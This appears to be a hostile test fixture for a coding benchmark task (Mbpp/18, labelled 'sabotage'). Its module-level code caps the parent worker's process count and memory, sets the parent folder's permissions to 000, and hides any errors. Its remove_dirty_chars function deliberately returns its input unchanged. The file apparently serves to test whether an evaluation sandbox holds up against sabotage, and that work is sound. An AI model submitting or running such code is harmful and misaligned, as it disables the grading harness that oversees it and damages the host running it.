# ruff: noqa  (deliberately hostile test input, not project code)
# task_id: Mbpp/18
# class: sabotage
# Lowers the worker's process and address-space limits and locks its folder.
import os
import resource

worker = os.getppid()
for kind, value in ((resource.RLIMIT_NPROC, 1), (resource.RLIMIT_AS, 48 << 20)):
    try:
        resource.prlimit(worker, kind, (value, value))
    except (OSError, ValueError):
        pass
try:
    os.chmod(os.path.dirname(os.getcwd()), 0o000)
except OSError:
    pass


def remove_dirty_chars(string, second_string):
    return string
